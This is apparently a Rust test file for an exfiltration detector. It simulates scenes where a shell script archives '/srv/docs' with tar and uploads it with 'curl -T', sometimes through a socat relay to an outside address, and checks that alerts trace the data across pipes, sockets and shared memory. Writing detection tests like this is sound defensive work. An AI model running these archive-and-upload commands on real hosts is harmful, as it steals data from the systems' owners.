//! Stories that go through another process of this host.

use super::{OUTSIDE, Scene, alerts, chain, edges, read_documents};
use crate::event::{FdObject, UnixSocket};

/// A relay that stood before the agent carries out what a script hands to it, by `hand_over`.
fn relayed(hand_over: impl FnOnce(&mut Scene)) -> Scene {
    let mut scene = Scene::new();
    scene.stand(11, "/usr/bin/socat");
    scene.spawn(10, 100, "/bin/dash", &["sh", "/root/exfil.sh"]);
    scene.spawn(100, 101, "/usr/bin/tar", &["tar", "-czf", "/var/tmp/a.tar.gz", "/srv/docs"]);
    scene.write(101, 9_000, "/var/tmp/a.tar.gz");
    read_documents(&mut scene, 101);
    scene.exit(101);
    scene.spawn(100, 102, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", "http://127.0.0.1:1080/"]);
    scene.read(102, 9_000, "/var/tmp/a.tar.gz", 12_000_000);
    hand_over(&mut scene);
    scene.connect(11, 7, OUTSIDE);
    scene.send(11, 7, OUTSIDE, 12_050_000, 500_000);
    scene.stop();
    scene
}

/// `(…; tar …) >file`: the shell opened what tar prints into.
#[test]
fn a_program_prints_into_what_its_shell_opened() {
    for (stdout, told) in [((1, 9_000), true), ((1, 9_001), false)] {
        let mut scene = Scene::new();
        scene.spawn(10, 100, "/bin/dash", &["sh", "/root/exfil.sh"]);
        scene.write(100, 9_000, "/srv/build.o");
        let file = FdObject::File { key: stdout, read: false, write: true };
        let fds = [FdObject::None, file, FdObject::None];
        scene.spawn_with(100, 101, "/usr/bin/tar", &["tar", "-c", "/srv/docs"], fds);
        read_documents(&mut scene, 101);
        scene.exit(101);
        scene.spawn(100, 102, "/usr/bin/curl", &["curl", "-T", "/srv/build.o", "http://198.51.100.2:443/"]);
        scene.read(102, 9_000, "/srv/build.o", 12_000_000);
        scene.connect(102, 7, OUTSIDE);
        scene.send(102, 7, OUTSIDE, 12_050_000, 500_000);
        scene.stop();
        let alerts = alerts(&scene);
        let last = alerts.last().expect("an alert");
        assert_eq!(last.files.iter().any(|file| file.path == "/srv/build.o".into()), told, "{stdout:?}");
    }
}

/// Memory has no passage of its own in a scene's story: who reads it stands beside its owner, whatever comes first.
#[test]
fn shared_memory_and_memory_that_is_read_hide_nobody() {
    let rows: [Row<'_>; 3] = [
        ("memory", &|scene| scene.memory(11, 102)),
        ("/dev/shm/x", &|scene| {
            scene.share(102, 9_001, "/dev/shm/x");
            scene.share(11, 9_001, "/dev/shm/x");
        }),
        // The reader maps it first, and finds later what others write.
        ("/dev/shm/x", &|scene| {
            scene.share(11, 9_001, "/dev/shm/x");
            scene.share(102, 9_001, "/dev/shm/x");
        }),
    ];
    for (passage, hand_over) in rows {
        let alerts = alerts(&relayed(hand_over));
        let last = alerts.last().unwrap_or_else(|| panic!("no alert by {passage}"));
        assert_eq!(last.process.key.pid, 11, "{passage}");
        assert!(last.files.iter().any(|file| file.path == "/var/tmp/a.tar.gz".into()), "{passage}");
        assert!(edges(last).iter().any(|edge| edge.contains(passage)), "{passage}: {:?}", edges(last));
    }
}

/// A name, and how the data comes to the relay.
type Row<'r> = (&'r str, &'r dyn Fn(&mut Scene));

#[test]
fn a_relay_hides_nobody() {
    let sent = UnixSocket { sent: true, inode: 70, name: 1, peer_inode: 71, peer_name: 0 };
    let received = UnixSocket { sent: false, inode: 71, name: 2, ..UnixSocket::default() };
    let rows: [Row<'_>; 3] = [
        ("connection", &|scene| scene.hand_over(102, 11, 1080)),
        ("unix", &|scene| {
            scene.unix(102, sent);
            scene.unix(11, received);
        }),
        ("pipe", &|scene| {
            scene.fifo(11, 55, "/srv/fifo", false);
            scene.fifo(102, 55, "/srv/fifo", true);
        }),
    ];
    for (passage, hand_over) in rows {
        let alerts = alerts(&relayed(hand_over));
        let last = alerts.last().unwrap_or_else(|| panic!("no alert by {passage}"));
        assert_eq!(last.process.key.pid, 11, "{passage}");
        assert!(last.files.iter().any(|file| file.path == "/var/tmp/a.tar.gz".into()), "{passage}");
        for name in ["dash", "tar", "curl", "socat"] {
            assert!(chain(last).iter().any(|link| link == name), "{passage}: {name} in {:?}", chain(last));
        }
        let through = |from: &str, to: &str| {
            edges(last)
                .iter()
                .any(|edge| edge.starts_with(from) && edge.contains(passage) && edge.ends_with(to))
        };
        assert!(through("pid 102", "") && through("", "pid 11"), "{passage}: {:?}", edges(last));
        let destinations: Vec<_> = last.destinations.iter().map(|to| to.remote.to_string()).collect();
        assert_eq!(destinations, [OUTSIDE], "{passage}: hops are no destinations");
        assert_eq!(last.bytes_out, 12_050_000, "{passage}");
    }
    assert!(alerts(&relayed(|_| ())).is_empty(), "nothing was handed over");
}
